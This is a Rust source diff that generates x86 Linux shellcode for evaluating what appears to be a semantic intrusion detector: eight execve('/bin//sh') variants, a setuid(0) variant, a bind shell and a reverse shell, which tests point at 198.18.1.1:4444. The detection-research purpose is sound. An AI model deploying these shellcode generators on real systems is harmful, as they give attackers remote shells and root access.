@@ -1,0 +1,348 @@
+//! The inert shellcode corpus: eight behaviourally-equivalent,
+//! syntactically-distinct Linux shell spawners plus port-binding variants.
+//!
+//! Each variant spawns `execve("/bin//sh")` through a different spelling —
+//! different string pushes, different syscall-number construction,
+//! different zeroing idioms, junk padding — which is exactly what Table 1
+//! needs: eight *different* exploits exhibiting one behaviour.
+//!
+//! **Inert by construction**: placeholder addresses, never executed.
+
+use crate::asm::{Asm, R};
+use rand::Rng;
+
+/// `"/bin"` little-endian.
+pub const BIN: u32 = 0x6e69_622f;
+/// `"//sh"` little-endian.
+pub const SSH: u32 = 0x6873_2f2f;
+/// `"/sh\0"` little-endian.
+pub const SH0: u32 = 0x0068_732f;
+
+/// Number of distinct shell-spawning styles.
+pub const STYLE_COUNT: usize = 8;
+
+/// Build style `style % STYLE_COUNT` of the shell spawner.
+pub fn execve_variant<G: Rng>(rng: &mut G, style: usize) -> Vec<u8> {
+    let mut a = Asm::new();
+    match style % STYLE_COUNT {
+        // 0: the classic Aleph One shape.
+        0 => {
+            a.xor_rr(R::Eax, R::Eax)
+                .push(R::Eax)
+                .push_imm32(SSH)
+                .push_imm32(BIN)
+                .mov_rr(R::Ebx, R::Esp)
+                .push(R::Eax)
+                .push(R::Ebx)
+                .mov_rr(R::Ecx, R::Esp)
+                .xor_rr(R::Edx, R::Edx)
+                .mov_imm8(R::Eax, 0x0b)
+                .int(0x80);
+        }
+        // 1: syscall number via push/pop.
+        1 => {
+            a.push_imm32(SSH)
+                .push_imm32(BIN)
+                .mov_rr(R::Ebx, R::Esp)
+                .xor_rr(R::Ecx, R::Ecx)
+                .xor_rr(R::Edx, R::Edx)
+                .push_imm8(0x0b)
+                .pop(R::Eax)
+                .int(0x80);
+        }
+        // 2: syscall number built arithmetically (contribution (c) food).
+        2 => {
+            a.xor_rr(R::Eax, R::Eax)
+                .push(R::Eax)
+                .push_imm32(SSH)
+                .push_imm32(BIN)
+                .mov_rr(R::Ebx, R::Esp)
+                .xor_rr(R::Ecx, R::Ecx)
+                .cdq()
+                .mov_imm8(R::Eax, 5)
+                .add_r8_imm8(R::Eax, 6)
+                .int(0x80);
+        }
+        // 3: "/bin" + "/sh\0" spelling.
+        3 => {
+            a.xor_rr(R::Edx, R::Edx)
+                .push_imm32(SH0)
+                .push_imm32(BIN)
+                .mov_rr(R::Ebx, R::Esp)
+                .xor_rr(R::Ecx, R::Ecx)
+                .push_imm8(0x0b)
+                .pop(R::Eax)
+                .int(0x80);
+        }
+        // 4: strings staged through a register first.
+        4 => {
+            a.mov_imm(R::Esi, SSH)
+                .xor_rr(R::Eax, R::Eax)
+                .push(R::Eax)
+                .push(R::Esi)
+                .push_imm32(BIN)
+                .mov_rr(R::Ebx, R::Esp)
+                .cdq()
+                .xor_rr(R::Ecx, R::Ecx)
+                .mov_imm8(R::Eax, 0x0b)
+                .int(0x80);
+        }
+        // 5: junk-laced classic.
+        5 => {
+            a.xor_rr(R::Eax, R::Eax);
+            a.nop_like(rng, &[R::Eax, R::Ebx, R::Esp]);
+            a.push(R::Eax).push_imm32(SSH);
+            a.nop_like(rng, &[R::Eax, R::Ebx, R::Esp]);
+            a.push_imm32(BIN).mov_rr(R::Ebx, R::Esp);
+            a.nop_like(rng, &[R::Eax, R::Ebx, R::Esp]);
+            a.push(R::Eax)
+                .push(R::Ebx)
+                .mov_rr(R::Ecx, R::Esp)
+                .cdq()
+                .mov_imm8(R::Eax, 0x0b)
+                .int(0x80);
+        }
+        // 6: setuid(0) first, then the shell.
+        6 => {
+            a.xor_rr(R::Eax, R::Eax)
+                .xor_rr(R::Ebx, R::Ebx)
+                .mov_imm8(R::Eax, 0x17) // setuid
+                .int(0x80)
+                .xor_rr(R::Eax, R::Eax)
+                .push(R::Eax)
+                .push_imm32(SSH)
+                .push_imm32(BIN)
+                .mov_rr(R::Ebx, R::Esp)
+                .xor_rr(R::Ecx, R::Ecx)
+                .cdq()
+                .mov_imm8(R::Eax, 0x0b)
+                .int(0x80);
+        }
+        // 7: syscall number by subtraction from a junk value.
+        _ => {
+            a.push_imm32(SSH)
+                .push_imm32(BIN)
+                .mov_rr(R::Ebx, R::Esp)
+                .xor_rr(R::Ecx, R::Ecx)
+                .xor_rr(R::Edx, R::Edx)
+                .mov_imm(R::Eax, 0x20)
+                .sub_imm8(R::Eax, 0x15)
+                .int(0x80);
+        }
+    }
+    a.finish()
+}
+
+/// A port-binding shell: socketcall(socket), socketcall(bind),
+/// socketcall(listen), dup2 wiring, then execve — the "bound to a separate
+/// network port" variants of §5.1.
+pub fn bind_shell<G: Rng>(_rng: &mut G, port: u16) -> Vec<u8> {
+    let mut a = Asm::new();
+    // socket(AF_INET, SOCK_STREAM, 0)
+    a.xor_rr(R::Eax, R::Eax)
+        .xor_rr(R::Ebx, R::Ebx)
+        .cdq()
+        .push(R::Edx) // protocol 0
+        .push_imm8(1) // SOCK_STREAM
+        .push_imm8(2) // AF_INET
+        .mov_rr(R::Ecx, R::Esp)
+        .inc(R::Ebx) // SYS_SOCKET = 1
+        .mov_imm8(R::Eax, 0x66)
+        .int(0x80);
+    // bind(s, {AF_INET, port, INADDR_ANY}, 16)
+    let sockaddr = (u32::from(port.swap_bytes()) << 16) | 0x0002;
+    a.mov_rr(R::Esi, R::Eax) // saved socket fd
+        .xor_rr(R::Eax, R::Eax)
+        .cdq()
+        .push(R::Edx)
+        .push(R::Edx)
+        .push_imm32(sockaddr)
+        .mov_rr(R::Ecx, R::Esp)
+        .push_imm8(0x10)
+        .push(R::Ecx)
+        .push(R::Esi)
+        .mov_rr(R::Ecx, R::Esp)
+        .xor_rr(R::Ebx, R::Ebx)
+        .add_imm8(R::Ebx, 2) // SYS_BIND = 2
+        .mov_imm8(R::Eax, 0x66)
+        .int(0x80);
+    // listen(s, 1)
+    a.xor_rr(R::Eax, R::Eax)
+        .push_imm8(1)
+        .push(R::Esi)
+        .mov_rr(R::Ecx, R::Esp)
+        .xor_rr(R::Ebx, R::Ebx)
+        .add_imm8(R::Ebx, 4) // SYS_LISTEN = 4
+        .mov_imm8(R::Eax, 0x66)
+        .int(0x80);
+    // dup2(s, 0..2)
+    for fd in 0..3i8 {
+        a.xor_rr(R::Eax, R::Eax)
+            .mov_rr(R::Ebx, R::Esi)
+            .xor_rr(R::Ecx, R::Ecx);
+        if fd > 0 {
+            a.add_imm8(R::Ecx, fd);
+        }
+        a.mov_imm8(R::Eax, 0x3f).int(0x80);
+    }
+    // execve("/bin//sh")
+    a.xor_rr(R::Eax, R::Eax)
+        .push(R::Eax)
+        .push_imm32(SSH)
+        .push_imm32(BIN)
+        .mov_rr(R::Ebx, R::Esp)
+        .push(R::Eax)
+        .push(R::Ebx)
+        .mov_rr(R::Ecx, R::Esp)
+        .cdq()
+        .mov_imm8(R::Eax, 0x0b)
+        .int(0x80);
+    a.finish()
+}
+
+/// A connect-back (reverse) shell: socketcall(SOCKET), socketcall(CONNECT)
+/// to `addr:port`, dup2 wiring, then execve — the behaviour behind the
+/// `reverse-shell` template (paper §6 future work).
+pub fn reverse_shell<G: Rng>(_rng: &mut G, addr: [u8; 4], port: u16) -> Vec<u8> {
+    let mut a = Asm::new();
+    // socket(AF_INET, SOCK_STREAM, 0)
+    a.xor_rr(R::Eax, R::Eax)
+        .xor_rr(R::Ebx, R::Ebx)
+        .cdq()
+        .push(R::Edx)
+        .push_imm8(1)
+        .push_imm8(2)
+        .mov_rr(R::Ecx, R::Esp)
+        .inc(R::Ebx) // SYS_SOCKET = 1
+        .mov_imm8(R::Eax, 0x66)
+        .int(0x80);
+    // connect(s, {AF_INET, port, addr}, 16)
+    let sockaddr_lo = (u32::from(port.swap_bytes()) << 16) | 0x0002;
+    a.mov_rr(R::Esi, R::Eax)
+        .xor_rr(R::Eax, R::Eax)
+        .push_imm32(u32::from_le_bytes(addr))
+        .push_imm32(sockaddr_lo)
+        .mov_rr(R::Ecx, R::Esp)
+        .push_imm8(0x10)
+        .push(R::Ecx)
+        .push(R::Esi)
+        .mov_rr(R::Ecx, R::Esp)
+        .xor_rr(R::Ebx, R::Ebx)
+        .add_imm8(R::Ebx, 3) // SYS_CONNECT = 3
+        .mov_imm8(R::Eax, 0x66)
+        .int(0x80);
+    // dup2(s, 0..2)
+    for fd in 0..3i8 {
+        a.xor_rr(R::Eax, R::Eax)
+            .mov_rr(R::Ebx, R::Esi)
+            .xor_rr(R::Ecx, R::Ecx);
+        if fd > 0 {
+            a.add_imm8(R::Ecx, fd);
+        }
+        a.mov_imm8(R::Eax, 0x3f).int(0x80);
+    }
+    // execve("/bin//sh")
+    a.xor_rr(R::Eax, R::Eax)
+        .push(R::Eax)
+        .push_imm32(SSH)
+        .push_imm32(BIN)
+        .mov_rr(R::Ebx, R::Esp)
+        .push(R::Eax)
+        .push(R::Ebx)
+        .mov_rr(R::Ecx, R::Esp)
+        .cdq()
+        .mov_imm8(R::Eax, 0x0b)
+        .int(0x80);
+    a.finish()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+
+    #[test]
+    fn variants_are_distinct_bytes() {
+        let mut rng = StdRng::seed_from_u64(1);
+        let all: Vec<Vec<u8>> = (0..STYLE_COUNT)
+            .map(|s| execve_variant(&mut rng, s))
+            .collect();
+        for i in 0..all.len() {
+            for j in i + 1..all.len() {
+                assert_ne!(all[i], all[j], "styles {i} and {j} collide");
+            }
+        }
+    }
+
+    #[test]
+    fn every_variant_contains_the_path_and_syscall() {
+        let mut rng = StdRng::seed_from_u64(2);
+        for s in 0..STYLE_COUNT {
+            let code = execve_variant(&mut rng, s);
+            // int 0x80 present
+            assert!(
+                code.windows(2).any(|w| w == [0xcd, 0x80]),
+                "style {s} lacks int 0x80"
+            );
+            // "/bin" dword present (as push or mov immediate)
+            assert!(
+                code.windows(4).any(|w| w == BIN.to_le_bytes()),
+                "style {s} lacks /bin"
+            );
+        }
+    }
+
+    #[test]
+    fn bind_shell_has_multiple_socketcalls() {
+        let mut rng = StdRng::seed_from_u64(3);
+        let code = bind_shell(&mut rng, 4444);
+        let socketcalls = code
+            .windows(4)
+            .filter(|w| w == &[0xb0, 0x66, 0xcd, 0x80])
+            .count();
+        assert!(socketcalls >= 3, "got {socketcalls}");
+        // port appears network-ordered inside the pushed sockaddr
+        let want = ((u32::from(4444u16.swap_bytes()) << 16) | 2).to_le_bytes();
+        assert!(code.windows(4).any(|w| w == want));
+    }
+
+    #[test]
+    fn reverse_shell_distinguished_from_bind_shell() {
+        use snids_semantic::Analyzer;
+        let mut rng = StdRng::seed_from_u64(5);
+        let analyzer = Analyzer::default();
+
+        let rev = reverse_shell(&mut rng, [198, 18, 1, 1], 4444);
+        let rev_names: Vec<_> = analyzer.analyze(&rev).iter().map(|m| m.template).collect();
+        assert!(rev_names.contains(&"reverse-shell"), "{rev_names:?}");
+        assert!(rev_names.contains(&"linux-shell-spawn"));
+        assert!(
+            !rev_names.contains(&"bind-shell"),
+            "a connect-back must not be classified as a bind shell: {rev_names:?}"
+        );
+
+        let bind = bind_shell(&mut rng, 4444);
+        let bind_names: Vec<_> = analyzer.analyze(&bind).iter().map(|m| m.template).collect();
+        assert!(bind_names.contains(&"bind-shell"), "{bind_names:?}");
+        assert!(
+            !bind_names.contains(&"reverse-shell"),
+            "a bind shell must not be classified as connect-back: {bind_names:?}"
+        );
+    }
+
+    #[test]
+    fn variants_decode_cleanly() {
+        let mut rng = StdRng::seed_from_u64(4);
+        for s in 0..STYLE_COUNT {
+            let code = execve_variant(&mut rng, s);
+            for insn in snids_x86::linear_sweep(&code) {
+                assert_ne!(
+                    insn.mnemonic,
+                    snids_x86::Mnemonic::Bad,
+                    "style {s} has undecodable bytes"
+                );
+            }
+        }
+    }
+}
